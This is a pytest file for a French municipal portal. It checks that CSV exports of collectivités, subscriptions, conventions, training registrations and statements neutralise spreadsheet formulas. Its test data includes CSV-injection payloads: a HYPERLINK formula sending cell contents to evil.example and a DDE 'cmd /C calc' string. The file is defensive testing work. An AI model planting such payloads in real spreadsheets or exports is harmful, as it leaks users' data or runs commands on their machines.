"""No CSV export carries a formula (OWASP, CSV injection): collectivités, open data, abonnements, conventions,
participants, inscriptions, the commune's yearly training table, the ENT schools annex and the year's
statements. Text starting with = + - @ tab or carriage return gets a leading apostrophe; numbers are unchanged.
The JSON of the open data and the XLSX files keep the text as it is (they are not read as formulas)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from sqlalchemy import select

from portal.common.clock import paris_today
from portal.conventions.demo import load_conventions
from portal.demo.catalogue import load_catalogue
from portal.extensions import db
from portal.statements import services as statements
from portal.subscriptions import documents
from portal.subscriptions import services as subscriptions
from portal.subscriptions.models import Subscription
from portal.training import registrations
from tests import factories

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 Commune",
    "-1 Commune",
    "\tTabulée",
    "\rRetour",
]
NEUTRALISED = ["'" + text for text in FORMULAS]
# Names of people and schools lose their leading tab or carriage return when saved (the services strip them).
PEOPLE = FORMULAS[:4] + ["Élu Tab", "Élu Retour"]
PEOPLE_NEUTRALISED = NEUTRALISED[:4] + ["Élu Tab", "Élu Retour"]
UAI = ["0470001W", "0470002X", "0470003Y", "0470004Z", "0470005A", "0470006B"]  # with their check letters
STAFF = "staff@cdg47.fr"
Y = paris_today().year


@pytest.fixture
def world(app):
    catalogue = {s.code: s for s in load_catalogue(Y)}  # with the rates of Y: 0.80 % and 0.20 %
    staff = factories.user("staff", email=STAFF)
    bodies = [factories.collectivite(name, insee=f"4790{i}", population=1000 + i) for i, name in enumerate(FORMULAS)]
    for body in bodies:
        factories.declare(body, Y - 1, 3)
        factories.declare(body, Y, 3)
    statements.set_payroll(bodies[0], Y, "250000", staff)
    start = paris_today() + timedelta(days=20)
    for index, body in enumerate(bodies):
        school = subscriptions.SchoolInput(UAI[index], PEOPLE[index], 4, 92, PEOPLE[index])
        subscriptions.request_subscription(
            body, catalogue["ent-ecoles"], subscriptions.RequestInput(start_date=start, schools=[school]), staff
        )
    conventions = load_conventions({}, staff, log=lambda _m: None)
    for convention, title in zip(conventions, FORMULAS, strict=False):
        convention.title = title
    day = paris_today() + timedelta(days=30)
    session = factories.training_session(
        factories.training(FORMULAS[0]), starts_at=datetime(day.year, day.month, day.day, 7, 0, tzinfo=UTC)
    )
    with factories.shared_password_hash():
        for body, name in zip(bodies, PEOPLE, strict=True):
            elu = factories.elu(body, name)
            registrations.register(session, elu.mandate, staff, registrations.RegistrationInput(travel_cost=12))
    db.session.commit()
    return {"bodies": bodies, "session": session, "conventions": conventions[: len(FORMULAS)]}


def read_csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def download(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return read_csv(response.get_data())


def test_collectivites_and_open_data(client, auth, world):
    open_data = download(client, "/donnees-ouvertes/collectivites-affiliees.csv")
    assert sorted(r["Nom"] for r in open_data) == sorted(NEUTRALISED)
    document = json.loads(client.get("/donnees-ouvertes/collectivites-affiliees.json").get_data(as_text=True))
    assert sorted(r["nom"] for r in document["collectivites"]) == sorted(FORMULAS)  # machine JSON: as stored
    auth.login(STAFF)
    rows = download(client, "/collectivites/export.csv")
    assert sorted(r["Nom"] for r in rows) == sorted(NEUTRALISED)
    assert sorted(r["Population"] for r in rows) == [str(1000 + i) for i in range(len(FORMULAS))]


def test_subscriptions_and_the_ent_annex(client, auth, world):
    auth.login(STAFF)
    rows = download(client, "/abonnements/export.csv?etat=tous")
    assert sorted(r["Collectivité"] for r in rows) == sorted(NEUTRALISED)
    assert all(r["N°"].isdigit() for r in rows)
    for body, text, person in zip(world["bodies"], NEUTRALISED, PEOPLE_NEUTRALISED, strict=True):
        subscription = db.session.scalar(select(Subscription).where(Subscription.collectivite_id == body.id))
        _name, _type, data = documents.ent_export_csv(subscription)
        (school,) = read_csv(data)
        assert (school["commune"], school["nom_ecole"], school["directeur"]) == (text, person, person)
        assert (school["nombre_classes"], school["nombre_eleves"]) == ("4", "92")


def test_conventions(client, auth, world):
    auth.login(STAFF)
    rows = download(client, "/conventions/export.csv")
    titles = {r["Titre"] for r in rows}
    assert set(NEUTRALISED) <= titles and not set(FORMULAS) & titles
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/conventions/export.xlsx").get_data()))
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
    assert {c.value for c in cells} >= set(FORMULAS[:4]) and {c.data_type for c in cells} == {"s"}


def test_participants_registrations_and_the_commune_table(client, auth, world):
    session = world["session"]
    auth.login(STAFF)
    for url in (f"/formations/sessions/{session.id}/participants.csv", "/formations/inscriptions.csv"):
        rows = download(client, url)
        assert sorted(r["Élu"] for r in rows) == sorted(PEOPLE_NEUTRALISED), url
        assert sorted(r["Collectivité"] for r in rows) == sorted(NEUTRALISED), url
        assert {(r["Frais (€)"], r["Coût pédagogique (€)"]) for r in rows} == {("12,00", "150,00")}, url
    year = session.starts_at.year
    body = world["bodies"][2]
    (row,) = download(client, f"/collectivites/{body.id}/formations/{year}.csv")
    assert (row["Élu"], row["Formation"]) == (PEOPLE_NEUTRALISED[2], NEUTRALISED[0])
    assert (row["Heures"], row["Frais de déplacement et séjour (€)"], row["Part commune (€)"]) == (
        "7,0",
        "12,00",
        "162,00",
    )


def test_statements_of_the_year(client, auth, world):
    auth.login(STAFF)
    rows = download(client, f"/cotisations/{Y}/releves.csv")
    assert sorted(r["Collectivité"] for r in rows) == sorted(NEUTRALISED)
    by_code = {r["Code"]: r for r in rows}
    for body in world["bodies"]:
        statement = statements.statement_of(body, Y)
        row = by_code[body.insee_code]
        assert row["Cotisation obligatoire (€)"] == f"{statement.total_of('cotisation'):f}".replace(".", ",")
        assert row["Total (€)"] == f"{statement.total:f}".replace(".", ",")
    assert by_code[world["bodies"][0].insee_code]["Cotisation obligatoire (€)"] == "2000,00"  # numbers stay numbers
